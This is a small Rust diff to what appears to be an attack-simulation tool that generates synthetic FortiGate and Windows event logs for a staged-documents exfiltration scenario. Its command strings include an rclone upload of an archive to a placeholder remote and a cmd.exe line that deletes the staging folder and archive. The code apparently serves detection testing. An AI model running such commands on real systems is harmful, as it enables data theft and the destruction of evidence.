@@ -59,7 +59,7 @@ impl Attack for StagedDocuments {
         let at_ms = at_ms + stage.minutes(4, 40);
         let command = format!("rclone.exe copy {folder}.7z {remote}:x --transfers 2");
         start(stage, &computer, at_ms, rclone, &command);
-        upload(stage, at_ms + 20 * SECOND_MS);
+        upload(stage, at_ms + 20 * SECOND_MS, rclone);
         let command = format!("cmd.exe /c rd /s /q {folder} & del {folder}.7z");
         start(stage, &computer, at_ms + next_day_ms, r"C:\Windows\System32\cmd.exe", &command);
         let entity = Entity::default()
@@ -123,7 +123,7 @@ fn gather(
 }
 
 /// The archive goes out in a few flows.
-fn upload(stage: &mut Stage<'_>, start_ms: i64) {
+fn upload(stage: &mut Stage<'_>, start_ms: i64, image: &str) {
     let (town, person) = (stage.town, stage.person());
     let outside = stage.outsider_v4(0);
     let count = stage.rng.count(2, 4);
@@ -142,7 +142,6 @@ fn upload(stage: &mut Stage<'_>, start_ms: i64) {
         };
         fortigate::traffic(&mut stage.lines, town, at_ms, &flow);
     }
-    let image = r"C:\Users\Public\rclone.exe";
     let computer = town.pc_of(person);
     let log = EventLog::of_pc(town, &computer);
     let (from, to) = (IpAddr::V4(person.ip), (IpAddr::V4(outside), 443));
